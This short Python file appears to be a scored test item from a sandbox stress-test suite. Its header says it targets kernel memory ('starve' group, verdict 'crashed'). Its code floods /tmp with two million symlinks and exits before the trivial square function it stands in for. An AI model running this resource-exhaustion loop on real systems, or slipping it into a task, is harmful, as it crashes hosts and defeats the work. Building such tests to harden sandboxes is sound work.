# tries: fills the kernel's memory with the names of millions of links in the temporary folder
# group: starve
# verdict: crashed
# points: 0 from square on

# %% square
import os

for n in range(2_000_000):
    os.symlink("t" * 120, f"/tmp/{n:x}")
raise SystemExit("the names were made")


def square(n):
    return n * n
